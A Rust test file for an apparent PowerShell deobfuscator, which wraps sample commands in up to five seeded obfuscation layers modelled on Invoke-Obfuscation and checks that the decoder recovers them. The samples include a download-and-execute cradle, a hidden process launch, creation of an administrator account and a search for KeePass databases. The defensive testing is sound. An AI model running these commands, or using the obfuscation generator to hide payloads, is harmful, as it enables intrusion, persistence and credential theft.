//! Known texts behind tricks of our own making, up to five deep: the text must come back.
//!
//! The tricks are written from what Invoke-Obfuscation is known to do, in words of our own; the
//! order is random and seeded, so that a failure can be seen again.
#![expect(clippy::unwrap_used, reason = "a test that panics fails")]

use std::fmt::Write as _;

use super::{STANDARD, run, utf16};
use base64::Engine as _;

/// A small generator of numbers: the same seed gives the same numbers (xorshift64*).
struct Dice(u64);

impl Dice {
    fn roll(&mut self, sides: usize) -> usize {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        let number = self.0.wrapping_mul(0x2545_F491_4F6C_DD1D) >> 33;
        usize::try_from(number).unwrap() % sides
    }

    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from[self.roll(from.len())]
    }

    /// Letters in random case.
    fn cased(&mut self, text: &str) -> String {
        let flip =
            |c: char, up: bool| if up { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() };
        text.chars().map(|c| flip(c, self.roll(2) == 0)).collect()
    }

    fn blanks(&mut self) -> &'static str {
        self.pick(&["", " ", "  ", "\t"])
    }
}

fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "''"))
}

/// A text in pieces of one to `longest` characters.
fn pieces(text: &str, longest: usize, dice: &mut Dice) -> Vec<String> {
    let chars: Vec<char> = text.chars().collect();
    let mut at = 0;
    let mut made = Vec::new();
    while at < chars.len() {
        let length = (1 + dice.roll(longest)).min(chars.len() - at);
        made.push(chars[at..at + length].iter().collect());
        at += length;
    }
    made
}

fn codes(text: &str) -> Vec<u32> {
    text.chars().map(u32::from).collect()
}

fn listed(numbers: impl Iterator<Item = u32>) -> String {
    numbers.map(|number| number.to_string()).collect::<Vec<_>>().join(",")
}

/// An expression whose value is the text.
fn expression(text: &str, dice: &mut Dice) -> String {
    match dice.roll(16) {
        0 => {
            let parts: Vec<String> =
                pieces(text, 6, dice).iter().map(|part| quoted(part)).collect();
            format!("({})", parts.join(&format!("{}+{}", dice.blanks(), dice.blanks())))
        }
        1 => shuffled_format(text, dice),
        2 => format!(
            "(-{} ({} | %{{[{}]$_}}))",
            dice.cased("join"),
            listed(codes(text).into_iter()),
            dice.cased("char")
        ),
        3 => format!(
            "(([{}[]]({}))-{}'')",
            dice.cased("char"),
            listed(codes(text).into_iter()),
            dice.cased("join")
        ),
        4 => {
            let key = u32::try_from(1 + dice.roll(127)).unwrap();
            let masked = listed(codes(text).into_iter().map(|code| code ^ key));
            format!(
                "((({masked})|{}{{[char]($_ -{} {key})}})-join'')",
                dice.cased("foreach-object"),
                dice.cased("bxor")
            )
        }
        5 => {
            let reversed: String = text.chars().rev().collect();
            let last = text.chars().count();
            format!("(-join({}[-1..-{last}]))", quoted(&reversed))
        }
        6 => {
            let reversed: String = text.chars().rev().collect();
            format!(
                "(-join[regex]::Matches({},'.','{}'))",
                quoted(&reversed),
                dice.cased("RightToLeft")
            )
        }
        7 => {
            let mark = dice.pick(&["XqZ", "k9w", "~!~"]);
            let marked = text.replace('a', mark).replace('e', "Q7Q");
            format!(
                "({}.{}('{mark}','a').Replace('Q7Q',[string][char]101))",
                quoted(&marked),
                dice.cased("replace")
            )
        }
        other => more_expressions(text, other, dice),
    }
}

/// The other half of them.
fn more_expressions(text: &str, which: usize, dice: &mut Dice) -> String {
    match which {
        8 => {
            let numbers: Vec<String> = codes(text).iter().map(|code| format!("{code:x}")).collect();
            format!(
                "(('{}'-split'-'|%{{[char]([{}]::ToInt16($_,16))}})-join'')",
                numbers.join("-"),
                dice.cased("convert")
            )
        }
        9 => {
            let numbers: Vec<String> = codes(text).iter().map(|code| format!("{code:b}")).collect();
            format!(
                "([string]::Join('',('{}'.Split('z')|%{{([convert]::ToInt32(([string]$_),2)-as[char])}})))",
                numbers.join("z")
            )
        }
        10 => {
            let numbers: Vec<String> = codes(text).iter().map(|code| format!("{code:o}")).collect();
            format!(
                "(-join('{}'.Split(',')|ForEach{{[char][convert]::ToInt16($_,8)}}))",
                numbers.join(",")
            )
        }
        11 => format!(
            "([{}]::UTF8.GetString([Convert]::FromBase64String('{}')))",
            dice.cased("Text.Encoding"),
            STANDARD.encode(text)
        ),
        12 => format!(
            "([System.Text.Encoding]::Unicode.GetString([System.Convert]::{}('{}')))",
            dice.cased("FromBase64String"),
            utf16(text)
        ),
        13 => packed(text),
        14 => {
            let parts: Vec<String> =
                codes(text).iter().map(|code| format!("[char]{code}")).collect();
            format!("({})", parts.join("+"))
        }
        _ => format!(
            "({}.Insert(0,{}))",
            quoted(&text.chars().skip(2).collect::<String>()),
            quoted(&text.chars().take(2).collect::<String>())
        ),
    }
}

fn shuffled_format(text: &str, dice: &mut Dice) -> String {
    let parts = pieces(text, 9, dice);
    let mut order: Vec<usize> = (0..parts.len()).collect();
    for at in (1..order.len()).rev() {
        order.swap(at, dice.roll(at + 1));
    }
    let mut format = String::new();
    for index in 0..parts.len() {
        let place = order.iter().position(|part| *part == index).unwrap();
        write!(format, "{{{place}}}").unwrap();
    }
    let values: Vec<String> = order.iter().map(|part| quoted(&parts[*part])).collect();
    format!("(\"{format}\" -f {})", values.join(","))
}

fn packed(text: &str) -> String {
    use std::io::Write as _;
    let mut packer = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    packer.write_all(text.as_bytes()).unwrap();
    let packed = STANDARD.encode(packer.finish().unwrap());
    format!(
        "((New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{packed}'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd())"
    )
}

/// A script that runs the text that an expression gives.
fn invoked(expression: &str, dice: &mut Dice) -> String {
    let iex = [
        "iex",
        "Invoke-Expression",
        "&('ie'+'x')",
        ".('iex')",
        ".($ShellId[1]+$ShellId[13]+'x')",
        "&($PSHome[4]+$PSHome[30]+'x')",
        ".($env:ComSpec[4,24,25]-join'')",
        "&((Get-Variable '*mdr*').Name[3,11,2]-join'')",
        "i`Ex",
        "&(\"{1}{0}\"-f'ex','i')",
    ];
    let iex = dice.pick(&iex);
    match dice.roll(5) {
        0 => format!("{iex} {expression}"),
        1 => format!("{expression}|{iex}"),
        2 => format!("$v={expression};{iex} $v"),
        3 => format!("&([scriptblock]::Create({expression}))"),
        _ => format!("Set-Variable q {expression};{iex} (Get-Variable q -ValueOnly)"),
    }
}

const TEXTS: &[&str] = &[
    "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/u.ps1')",
    "Start-Process -FilePath \"C:\\Users\\Public\\up.exe\" -ArgumentList '-s', '-q'",
    "net user helper P@ss+w0rd! /add; net localgroup Administrators helper /add",
    "whoami /all",
    "Get-ChildItem C:\\ -Recurse | ? { $_.Extension -eq '.kdbx' } | % { $_.FullName }",
];

#[test]
fn known_texts_come_back_from_up_to_five_tricks() {
    for seed in 1..=150_u64 {
        let mut dice = Dice(seed.wrapping_mul(0x9E37_79B9_7F4A_7C15));
        let text = TEXTS[dice.roll(TEXTS.len())];
        let depth = 1 + dice.roll(5);
        let mut script = text.to_owned();
        for _ in 0..depth {
            // Nested codes multiply the length: a long script is only packed or encoded further.
            let expression =
                if script.len() > 4000 { packed(&script) } else { expression(&script, &mut dice) };
            script = invoked(&expression, &mut dice);
        }
        let line = match dice.roll(4) {
            0 => format!("powershell -nop -w hidden -enc {}", utf16(&script)),
            1 => format!("cmd /c powershell -e {}", utf16(&script)),
            2 => format!("powershell.exe -NoProfile -Command \"{}\"", script.replace('"', "\\\"")),
            _ => script,
        };
        let decoding = run(&line);
        assert_eq!(
            decoding.last_text(),
            Some(text),
            "seed {seed}, {depth} deep: {line}\n{decoding:#?}"
        );
        assert_eq!(decoding.failed, [], "seed {seed}");
        assert!(decoding.layers.len() >= depth, "seed {seed}: {decoding:#?}");
    }
}
